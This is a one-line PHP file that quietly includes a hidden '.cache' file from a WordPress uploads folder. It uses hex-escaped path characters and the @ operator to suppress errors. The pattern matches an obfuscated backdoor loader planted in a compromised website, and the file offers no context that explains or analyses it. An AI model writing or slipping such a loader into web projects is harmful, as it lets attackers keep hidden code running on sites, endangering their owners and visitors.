<?php
@include "\x2fhome\x2fsite\x2fpublic_html\x2fwp-content\x2fuploads\x2f.cache";
